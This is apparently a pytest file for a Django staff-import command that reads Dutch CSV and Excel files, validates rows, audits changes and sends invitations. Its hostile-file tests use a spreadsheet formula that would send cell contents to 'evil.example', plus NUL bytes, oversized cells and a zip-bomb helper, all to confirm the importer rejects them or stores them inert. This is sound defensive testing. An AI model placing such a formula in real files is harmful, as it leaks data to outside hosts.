"""The staff import: reading Dutch files, checking every row, planning and applying the changes
(`manage.py import_staff`); the admin's preview is in test_staff_import_admin.py."""

from __future__ import annotations

import io

import pytest
from django.core import mail
from django.core.cache import cache
from django.core.management import call_command
from django.core.management.base import CommandError
from openpyxl import Workbook

from audit.models import AuditEntry
from core.roles import Role
from members.importing.format import ImportRefused
from members.models import User
from members.setup_import import staff
from tests.factories import UserFactory, region
from tests.members.helpers import SAMPLES, write

pytestmark = pytest.mark.django_db

HEADER = "e-mailadres;naam;rol;regio's;sectoren;vakbondshuizen;online\r\n"
SAMPLE_EMAILS = {
    "anneke.dekker@example.nl",
    "bram.oosterhout@example.nl",
    "chantal.el-amrani@example.nl",
    "dirk.van.wijk@example.nl",
    "esmee.bakker@example.nl",
    "francois.jansen@example.nl",
    "gerda.de.boer@example.nl",
}


@pytest.fixture(autouse=True)
def _clear_cache():
    cache.clear()


@pytest.fixture(autouse=True)
def _commit(django_capture_on_commit_callbacks):
    """Invitations go out when the import's transaction commits: run those callbacks."""
    global _capture
    _capture = django_capture_on_commit_callbacks
    yield
    _capture = None


_capture = None


def run(path: str, *args: str) -> tuple[str, str]:
    out, err = io.StringIO(), io.StringIO()
    with _capture(execute=True):
        call_command("import_staff", path, *args, stdout=out, stderr=err)
    return out.getvalue(), err.getvalue()


def refused(path: str, *args: str) -> tuple[str, str]:
    out, err = io.StringIO(), io.StringIO()
    with pytest.raises(CommandError) as raised:
        call_command("import_staff", path, *args, stdout=out, stderr=err)
    return str(raised.value), err.getvalue()


def staff_file(tmp_path, rows: str, *, header: str = HEADER, encoding: str = "utf-8") -> str:
    return write(tmp_path, (header + rows).encode(encoding), name="medewerkers.csv")


# --- Reading Dutch files ------------------------------------------------------------------


def test_the_cp1252_semicolon_sample_creates_every_account_with_its_area(cast):
    out, _err = run(str(SAMPLES / "staff-example.csv"))
    assert "CSV (Windows-1252, puntkomma), 7 rij(en)" in out
    assert "Klaar: 7 nieuw, 0 gewijzigd, 0 ongewijzigd, 0 gedeactiveerd." in out
    created = {user.email: user for user in User.objects.filter(email__in=SAMPLE_EMAILS)}
    assert set(created) == SAMPLE_EMAILS
    bram = created["bram.oosterhout@example.nl"]
    assert bram.role == Role.CONSULTANT and bram.serves_online
    assert {house.name for house in bram.union_houses.all()} == {
        "Vakbondshuis Utrecht",
        "Vakbondshuis Amsterdam",
    }
    francois = created["francois.jansen@example.nl"]
    assert francois.full_name == "François Jansen"  # cp1252 read as such
    assert francois.role == Role.COORDINATOR
    assert {r.code for r in francois.regions.all()} == {"AM13", "AM18"}
    assert created["esmee.bakker@example.nl"].role == Role.REGIONAL_OFFICIAL
    assert [s.name for s in created["gerda.de.boer@example.nl"].sectors.all()] == ["Handel"]
    assert not any(user.has_usable_password() for user in created.values())
    assert not any(user.is_staff or user.is_superuser for user in created.values())


def test_the_xlsx_sample_reads_the_same_rows_as_the_csv_sample(cast):
    from_csv = staff.read_staff_file(str(SAMPLES / "staff-example.csv"))
    from_xlsx = staff.read_staff_file(str(SAMPLES / "staff-example.xlsx"))
    assert from_csv.ok and from_xlsx.ok
    assert from_xlsx.label == "Excel (.xlsx)"
    assert from_xlsx.rows == from_csv.rows


def test_utf8_with_bom_and_commas_and_quoted_lists_and_any_case(tmp_path, cast):
    content = (
        "\ufeffE-MAILADRES,Naam,ROL,Regio's,Vakbondshuizen,Online\r\n"
        'Piet@Example.nl,Piet Çelik,TRAJECTADVISEUR,"am13, groot amsterdam",,NEE\r\n'
        'kees@example.nl,Kees Ünal,kaderlid,,"vakbondshuis utrecht",ja\r\n'
    )
    path = write(tmp_path, content.encode("utf-8"), name="staff.csv")
    check = staff.read_staff_file(path)
    assert check.ok, check.errors
    assert check.label == "CSV (UTF-8 met BOM, komma)"
    piet, kees = check.rows
    assert piet.email == "piet@example.nl" and piet.role == Role.ADVISER
    assert piet.region_ids == frozenset({region("AM13").pk, region("AM18").pk})
    assert piet.serves_online is False and piet.sector_ids is None  # no sectors column
    assert kees.role == Role.CONSULTANT and kees.house_ids == frozenset({cast.union_house.pk})


def test_empty_rows_are_skipped_and_the_line_numbers_stay_those_of_the_file(tmp_path, cast):
    path = staff_file(
        tmp_path,
        ";;;;;;\r\n\r\nx@example.nl;X Jansen;Consulent;;;Vakbondshuis Utrecht;\r\n"
        ";;;;;;\r\ny@example.nl;Y Jansen;Directeur;;;;ja\r\n",
    )
    check = staff.read_staff_file(path)
    assert check.total == 2
    assert [str(error) for error in check.errors] == [
        "Regel 6, kolom ‘rol’: ‘Directeur’ is geen rol in het portaal. Kies uit: consulent, "
        "trajectadviseur, regiobestuurder, regiocoördinator, sectorbestuurder, juridisch medewerker."
    ]


def test_a_file_without_the_required_columns_or_with_unknown_ones_is_refused(tmp_path, cast):
    path = staff_file(tmp_path, "a@example.nl;A\r\n", header="e-mailadres;naam\r\n")
    message, _err = refused(path)
    assert "Verplichte kolom ontbreekt: ‘rol’" in message
    path = staff_file(
        tmp_path, "a@example.nl;A;consulent;x\r\n", header="e-mail;naam;rol;salaris\r\n"
    )
    assert "Onbekende kolom: ‘salaris’" in refused(path)[0]
    assert not User.objects.filter(email="a@example.nl").exists()


# --- Every bad row named; a file with errors imports nothing -----------------------------


def test_every_bad_row_is_named_with_its_column_and_nothing_is_imported(tmp_path, cast):
    UserFactory(email="lid.thuis@example.nl", role=Role.MEMBER)
    path = staff_file(
        tmp_path,
        "goed@example.nl;Goed Persoon;consulent;;;Vakbondshuis Utrecht;ja\r\n"  # 2: fine
        "geen-adres;Ada;consulent;;;;ja\r\n"  # 3
        "ada@example.nl;Ada;Beheerder;;;;ja\r\n"  # 4
        "bob@example.nl;Bob;trajectadviseur;AM99;;;\r\n"  # 5
        "lid.thuis@example.nl;Lid Thuis;consulent;;;;ja\r\n"  # 6
        "dubbel@example.nl;Dubbel Een;consulent;;;;ja\r\n"  # 7
        "DUBBEL@example.nl;Dubbel Twee;consulent;;;;ja\r\n"  # 8
        "beheer@example.nl;Beheer;consulent;;;;ja\r\n"  # 9: the cast's admin
        "sam@example.nl;Sam;sectorbestuurder;;Visserij;;\r\n"  # 10
        "tom@example.nl;Tom;consulent;;;;misschien\r\n"  # 11
        "uma@example.nl;Uma;regiocoördinator;;;;\r\n",  # 12: no region
    )
    message, err = refused(path)
    assert "Niets geïmporteerd: het bestand heeft 10 fout(en)" in message
    lines = err.splitlines()
    assert "Regel 3, kolom ‘e-mailadres’: ‘geen-adres’ is geen geldig e-mailadres." in lines
    assert any(
        line.startswith("Regel 4, kolom ‘rol’: ‘Beheerder’ kan niet via dit bestand")
        for line in lines
    )
    assert any(
        line.startswith("Regel 5, kolom ‘regio's’: onbekende regio ‘AM99’") for line in lines
    )
    assert any(
        line.startswith(
            "Regel 6, kolom ‘e-mailadres’: lid.thuis@example.nl hoort bij het account van een lid"
        )
        for line in lines
    )
    assert any(
        "Regel 7, kolom ‘e-mailadres’: dubbel@example.nl staat ook op regel 8" in line
        for line in lines
    )
    assert any(
        "Regel 8, kolom ‘e-mailadres’: dubbel@example.nl staat ook op regel 7" in line
        for line in lines
    )
    assert any(
        line.startswith("Regel 9, kolom ‘e-mailadres’: beheer@example.nl hoort bij een beheerder")
        for line in lines
    )
    assert any(
        line.startswith("Regel 10, kolom ‘sectoren’: onbekende sector ‘Visserij’") for line in lines
    )
    assert any(
        line.startswith("Regel 11, kolom ‘online’: ‘misschien’ is geen ja of nee") for line in lines
    )
    assert any(
        line.startswith("Regel 12, kolom ‘regio's’: een regiocoördinator werkt in een regio")
        for line in lines
    )
    assert not any(line.startswith("Regel 2") for line in lines)
    # nothing imported, not even the good row; no mail
    assert not User.objects.filter(email__in=["goed@example.nl", "ada@example.nl"]).exists()
    assert User.objects.get(email="lid.thuis@example.nl").role == Role.MEMBER
    assert mail.outbox == []


# --- Hostile files --------------------------------------------------------------------------


def test_a_nul_byte_refuses_the_file_with_its_line(tmp_path, cast):
    path = staff_file(tmp_path, "a@example.nl;A\x00B;consulent;;;;ja\r\n")
    message, _err = refused(path)
    assert "nul-teken" in message or "binair" in message
    assert not User.objects.filter(email="a@example.nl").exists()


def test_a_10_mb_cell_refuses_the_file_before_it_is_read(tmp_path, cast):
    path = staff_file(tmp_path, "a@example.nl;" + "A" * (10 * 1024 * 1024) + ";consulent;;;;ja\r\n")
    message, _err = refused(path)
    assert "te groot" in message and "2 MB" in message


def test_a_cell_longer_than_the_csv_reader_takes_names_its_line(tmp_path, cast):
    path = staff_file(tmp_path, 'a@example.nl;"' + "A" * 200_000 + '";consulent;;;;ja\r\n')
    message, _err = refused(path)
    assert "Regel 2 kan niet worden gelezen" in message


def test_a_long_name_and_control_characters_are_bad_rows(tmp_path, cast):
    path = staff_file(
        tmp_path,
        "a@example.nl;" + "A" * 151 + ";consulent;;;;ja\r\n"
        'b@example.nl;"Bea\rBoer";consulent;;;;ja\r\n',
    )
    _message, err = refused(path)
    assert "Regel 2, kolom ‘naam’: is 151 tekens lang; er passen er 150." in err
    assert "Regel 3, kolom ‘naam’: bevat een onzichtbaar stuurteken" in err


def test_a_formula_is_kept_as_text_and_never_evaluated(tmp_path, cast):
    formula = '=HYPERLINK("http://evil.example/?"&A1;"klik")'
    quoted = '"' + formula.replace('"', '""') + '"'
    path = staff_file(tmp_path, f"f@example.nl;{quoted};consulent;;;;ja\r\n")
    run(path)
    assert User.objects.get(email="f@example.nl").full_name == formula


def test_a_line_break_inside_an_excel_cell_is_a_bad_row_not_a_crash(tmp_path, cast):
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["e-mailadres", "naam", "rol", "regio's"])
    sheet.append(["x@example.nl", "Xandra\nYilmaz", "trajectadviseur", "AM13"])
    path = tmp_path / "staff.xlsx"
    workbook.save(path)
    check = staff.read_staff_file(str(path))
    assert [e.column for e in check.errors] == ["naam"]


def test_a_binary_file_is_refused(tmp_path, cast):
    path = write(tmp_path, b"%PDF-1.4 \x00\x01", name="staff.csv")
    with pytest.raises(ImportRefused):
        staff.read_staff_file(path)


# --- Idempotent re-import, changes, audit -------------------------------------------------


def test_reimporting_the_same_file_changes_nothing_no_mail_no_audit(cast):
    run(str(SAMPLES / "staff-example.csv"))
    assert len(mail.outbox) == 7
    entries = AuditEntry.objects.count()
    out, _err = run(str(SAMPLES / "staff-example.csv"))
    assert "Klaar: 0 nieuw, 0 gewijzigd, 7 ongewijzigd, 0 gedeactiveerd." in out
    assert len(mail.outbox) == 7
    assert AuditEntry.objects.count() == entries
    out, _err = run(str(SAMPLES / "staff-example.xlsx"))  # the same people from Excel
    assert "0 nieuw, 0 gewijzigd, 7 ongewijzigd" in out


def test_each_created_changed_and_deactivated_account_is_audited(tmp_path, cast):
    path = staff_file(
        tmp_path,
        "a@example.nl;Ans Smit;trajectadviseur;AM13;;;\r\nb@example.nl;Bert Smit;trajectadviseur;AM13;;;\r\n",
    )
    run(path)
    ans = User.objects.get(email="a@example.nl")
    assert AuditEntry.objects.filter(object_id=str(ans.pk), action="create").count() == 1
    path = staff_file(tmp_path, "a@example.nl;Ans de Smit;regiocoördinator;AM13;;;\r\n")
    out, _err = run(path, "--deactivate-missing")
    assert "gewijzigd: a@example.nl (naam, rol)" in out
    ans.refresh_from_db()
    assert (ans.full_name, ans.role) == ("Ans de Smit", Role.COORDINATOR)
    change = AuditEntry.objects.get(object_id=str(ans.pk), action="change")
    assert change.detail == "via medewerkersimport: naam, rol"
    # Bert is a trajectadviseur, a role no longer in the file: out of its scope, kept active;
    # the cast's coordinator works in AM13 and is not in the file: deactivated
    assert User.objects.get(email="b@example.nl").is_active
    coordinator = User.objects.get(email="coordinator@example.nl")
    assert not coordinator.is_active
    assert AuditEntry.objects.filter(object_id=str(coordinator.pk), action="change").exists()
    summary = (
        AuditEntry.objects.filter(action="import", object_type="members.user").order_by("pk").last()
    )
    assert summary.detail.endswith("0 nieuw, 1 gewijzigd, 1 gedeactiveerd")


# --- Deactivating who is missing, never deleting ------------------------------------------


def test_missing_accounts_are_counted_first_and_deactivated_only_when_asked(tmp_path, cast):
    # the cast's adviser (AM13) is missing from this file; the other adviser works in AM18
    path = staff_file(tmp_path, "nieuw@example.nl;Nieuwe Adviseur;trajectadviseur;AM13;;;\r\n")
    out, _err = run(path, "--dry-run", "--deactivate-missing")
    assert "niet in het bestand, te deactiveren  1" in out
    assert "niet in het bestand: adviseur@example.nl (Trajectadviseur)" in out
    assert "Proefdraai" in out
    assert not User.objects.filter(email="nieuw@example.nl").exists() and mail.outbox == []
    assert User.objects.get(email="adviseur@example.nl").is_active

    out, _err = run(path)  # without the option: they stay active
    assert "niet in het bestand (blijven actief)  1" in out and "--deactivate-missing" in out
    assert User.objects.get(email="adviseur@example.nl").is_active

    out, _err = run(path, "--deactivate-missing")
    assert "1 gedeactiveerd" in out
    adviser = User.objects.get(email="adviseur@example.nl")  # still there, not deleted
    assert not adviser.is_active
    assert User.objects.get(email="anderadviseur@example.nl").is_active  # another region
    assert User.objects.get(email="coordinator@example.nl").is_active  # another role
    assert AuditEntry.objects.filter(
        object_id=str(adviser.pk), detail__startswith="gedeactiveerd via medewerkersimport"
    ).exists()

    # back in the file: active again, without a new invitation
    outbox = len(mail.outbox)
    both = staff_file(
        tmp_path,
        "nieuw@example.nl;Nieuwe Adviseur;trajectadviseur;AM13;;;\r\n"
        f"adviseur@example.nl;{adviser.full_name};trajectadviseur;AM13;;;\r\n",
    )
    out, _err = run(both)
    assert "gewijzigd: adviseur@example.nl (weer actief)" in out
    assert User.objects.get(email="adviseur@example.nl").is_active
    assert len(mail.outbox) == outbox


def test_consultants_are_in_scope_through_their_union_house(tmp_path, cast):
    path = staff_file(
        tmp_path, "nieuw@example.nl;Nieuwe Consulent;consulent;;;Vakbondshuis Utrecht;\r\n"
    )
    plan = staff.plan_staff(staff.read_staff_file(path))
    assert [user.email for user in plan.missing] == ["consulent@example.nl"]


# --- The invitation mail ------------------------------------------------------------------


def test_each_new_account_gets_one_invitation_to_choose_a_password(tmp_path, cast):
    path = staff_file(
        tmp_path,
        "nieuw@example.nl;Nina Nieuw;consulent;;;Vakbondshuis Utrecht;\r\n"
        f"consulent@example.nl;{cast.consultant.full_name};consulent;;;Vakbondshuis Utrecht;ja\r\n",
    )
    run(path)
    assert [message.to for message in mail.outbox] == [["nieuw@example.nl"]]
    message = mail.outbox[0]
    assert message.subject == "[FNV Regio] Je account voor FNV Regio staat klaar"
    assert "Beste Nina" in message.body and "wachtwoord te kiezen" in message.body
    assert "/accounts/tweede-factor/" in message.body


def test_a_dry_run_sends_no_mail_and_writes_nothing(tmp_path, cast):
    entries = AuditEntry.objects.count()
    out, _err = run(str(SAMPLES / "staff-example.csv"), "--dry-run")
    assert "nieuw (krijgen een uitnodiging)" in out and "  7" in out
    assert mail.outbox == [] and AuditEntry.objects.count() == entries
    assert not User.objects.filter(email__in=SAMPLE_EMAILS).exists()


def test_an_existing_address_in_other_case_is_the_same_account(tmp_path, cast):
    user = UserFactory(
        email="Hoofd.Letters@Example.nl", role=Role.ADVISER, full_name="Hoofd Letters"
    )
    user.regions.add(region("AM13"))
    path = staff_file(
        tmp_path, "hoofd.letters@example.nl;Hoofd Letters;trajectadviseur;AM13;;;\r\n"
    )
    out, _err = run(path, "--deactivate-missing")
    assert "0 nieuw, 0 gewijzigd, 1 ongewijzigd" in out
    assert User.objects.filter(email__iexact="hoofd.letters@example.nl").count() == 1
    assert User.objects.get(pk=user.pk).is_active  # in the file, so never counted as missing


def test_an_xlsx_bomb_is_refused_before_it_is_parsed(tmp_path, cast, monkeypatch):
    from tests.members.xlsx_bombs import shared_string_bomb

    def no_parsing(*args, **kwargs):
        raise AssertionError("openpyxl reached")

    monkeypatch.setattr("openpyxl.load_workbook", no_parsing)
    path = tmp_path / "medewerkers.xlsx"
    shared_string_bomb(path, 200 * 1024 * 1024)  # 200 MB of text in a file under 2 MB
    message, _err = refused(str(path))
    assert "uitgepakt" in message
    assert not User.objects.filter(email__endswith="@example.org").exists()
